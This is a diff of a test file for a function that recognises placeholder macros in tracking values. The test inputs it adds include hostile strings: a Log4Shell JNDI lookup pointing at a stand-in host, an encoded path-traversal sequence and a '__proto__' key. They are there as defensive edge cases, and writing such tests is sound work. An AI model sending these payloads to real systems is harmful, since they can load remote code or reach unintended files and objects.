@@ -22,7 +22,7 @@ const nothing = {
   "signs between the brackets and the name":
     "[=XID1=] [+SID+] {%PLACE_ID%} {$click_id} {!id} {id!} {id?} {:id} {@id} {#id} {#id#} <#id#> [%x%]",
   "the same signs on both sides of a name":
-    "##X## #x# #id# %X% %source_id% %PHONE_NUMBER% %%CLICK%% !!!clickRef!!! !x! @id@ ~id~ *id* |id| ^id^ +SID+ =id= :id: ;id; &id& ?id? `id` $$id$$ __CLICKID__ __click_id__ --id-- -source- -catname- _CLICKID_",
+    "##X## #x# #id# %X% %source_id% %PHONE_NUMBER% %%CLICK%% !!!clickRef!!! !x! @id@ ~id~ *id* |id| ^id^ +SID+ =id= :id: ;id; &id& ?id? `id` $$id$$ __CLICKID__ --id-- -source- -catname- _CLICKID_",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: these are macros.
   "signs before a name": "$X $id $click_id $USER_ID ${x} $(id) $[id] %{app_id} #{id} @{id} *{id} %s %d",
   "a template's expression":
@@ -39,7 +39,7 @@ const nothing = {
 const values =
   `order-84211 order{1} 12345_{goal} a{x} {x}b {0} {x x} [1] #1234 #12345 #AB1234 #1# $ $1 $5 $5.00 $12.50·CAD USD$5 € 5% 100% 100%% %zz% %20 50%d
   100%·of·%·it <1> {click}&x replaced nullable-9 null1 undefined_2 NONE-7 Nullsson none@none.com NaNa optional-2 xx xXx-9 x·x (555)·1234 (+1)·5551234 (12,50)
-  [12345] {12345} {{12345}} [[1,2]] ["a"] {"a":1} {"click":"x"} (A-20241117-0001) {a1b2c3d4} [AB12-CD34] _7f3a_ __1__ ##12345## A_B A__B A-B-C _user user_ __a -a a- abc# abc$
+  [12345] {12345} {{12345}} [[1,2]] ["a"] {"a":1} {"click":"x"} (A-20241117-0001) {a1b2c3d4} [AB12-CD34] _7f3a_ __1__ ##12345## A_B A__B __proto__ __init__ _id_ %2e%2e%2f A-B-C _user user_ __a -a a- abc# abc$
   ~1 -1 -5 - 1_000 a:b a|b a=b x-y id clickid ext_id payout sale void unknown test false true 0 000 n No T/123/A /checkout/ ?id=4 @john john@example.com <john@example.com>
   +49·30·1234 *1234 ****1234 'ord-1' "ORD" YWJjZA== YWJj/+8= http://x.example/{z} <img·src=x> ORDER·#5 😀 {😀} 019aab3c5d7e4f60718293a4b5c6d7e8 (019aab3c5d7e4f60718293a4b5c6d7e8)
   {6F9619FF-8B86-D011-B42D-00C04FC964FF} {af9619ff-8b86-d011-b42d-00c04fc964ff} {{AF9619FF-8B86-D011-B42D-00C04FC964FF}} %7BAF9619FF-8B86-D011-B42D-00C04FC964FF%7D
@@ -74,7 +74,14 @@ describe("A value that stands for nothing", () => {
   it("2.9 is not what only looks odd: an id, an amount, an address, a text with a macro in it", () => {
     expect(values.length).toBeGreaterThan(100);
     expect(values.map((text) => text.replaceAll("·", " ")).filter((text) => nothingIn(text) !== null)).toEqual([]);
-    for (const long of [`{${"x".repeat(65)}}`, "{x}".repeat(100), "x".repeat(64), "X".repeat(128), ""])
+    for (const long of [
+      `{${"x".repeat(65)}}`,
+      "{x}".repeat(100),
+      "x".repeat(64),
+      "X".repeat(128),
+      "",
+      `$${"{jndi:ldap://x.example/a}"}`,
+    ])
       expect([long, nothingIn(long)]).toEqual([long, null]);
   });
 
